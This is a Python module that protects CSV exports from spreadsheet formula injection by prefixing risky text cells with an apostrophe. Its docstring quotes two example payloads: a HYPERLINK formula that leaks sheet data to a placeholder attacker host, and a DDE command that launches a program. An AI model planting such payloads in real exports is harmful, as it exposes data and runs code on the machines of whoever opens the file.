"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@`, and
some also after a leading tab, carriage return or spaces: a cohort name of
`=HYPERLINK("http://evil.example?"&A1, "Open")` leaks the sheet, `=cmd|' /C calc'!A0` runs a
program. Every exported text cell goes through `safe_cell`, which prefixes such a value with an
apostrophe, the spreadsheet convention for "this is text".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_STARTS", "safe_cell", "to_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""Characters that make a spreadsheet read a cell as a formula (or hide one behind a blank)."""


def safe_cell(value: object) -> object:
    """A text value that would start a formula, prefixed with `'`; numbers and None as they are.

    >>> safe_cell("=1+2"), safe_cell("  @SUM(A1)"), safe_cell(-3), safe_cell("Cohort A")
    ("'=1+2", "'  @SUM(A1)", -3, 'Cohort A')
    """
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip(" \t\r\n").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document with every cell made safe for spreadsheets."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
